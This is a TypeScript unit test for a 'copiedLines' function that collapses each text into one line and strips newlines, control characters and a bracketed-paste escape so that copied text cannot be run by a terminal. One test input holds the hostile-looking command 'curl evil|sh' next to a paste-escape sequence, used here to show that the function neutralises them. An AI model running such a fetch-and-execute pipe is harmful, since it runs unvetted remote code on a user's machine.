import assert from 'node:assert/strict';
import { copiedLines } from '../../../src/labelsView/copiedLines.ts';

describe('copiedLines', () => {
  it('is one line for each text, without anything that a terminal would run', () => {
    assert.equal(
      copiedLines(['nice\ncurl evil|sh\n\u001B[201~', 'a\r\n\tb', 'c\u2028d\u0085e\u007Ff\u0000']),
      'nice curl evil|sh [201~\na b\nc d e f ',
    );
  });

  it('keeps all other characters exactly', () => {
    const text = ' a  b\u00A0c\u200Bd\uFEFFe\u00ADf\uD800 👩‍👩‍👧 夜 ';
    assert.equal(copiedLines([text, '', text]), `${text}\n\n${text}`);
  });
});
